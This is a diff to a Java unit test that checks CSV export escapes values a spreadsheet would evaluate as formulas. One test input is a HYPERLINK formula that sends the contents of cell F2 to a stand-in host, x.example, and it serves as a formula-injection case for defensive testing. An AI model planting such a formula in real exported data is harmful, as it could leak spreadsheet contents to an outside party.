@@ -29,6 +29,15 @@ final class CsvTest {
     }
 
     @Test
+    void whatASpreadsheetWouldCalculateIsTextInAListToo() {
+        for (String formula : List.of("=HYPERLINK(\"http://x.example/?\"&F2,\"a\")", "+1", "-1", "@SUM(A1)", "\tx")) {
+            String name = formula.replace("\"", "\"\"");
+            assertThat(Csv.line(new JsonObject().put("groups", new JsonArray(List.of(formula, "t"))), List.of("groups"))).as(formula).matches("\"?'\\Q" + name + "\\E t\"?\r\n");
+            assertThat(Csv.line(new JsonObject().put("groups", new JsonArray(List.of("a", formula))), List.of("groups"))).as(formula).contains("a '" + name);
+        }
+    }
+
+    @Test
     void aPageShowsAQueryAsText() {
         var page = new ReportPage(
                 "Title", "scope", List.of(new ReportPage.Figure("ranUnapproved", 1, "/v1/statements?outcome=deny&target=x")), List.of("sessionId", "query"),
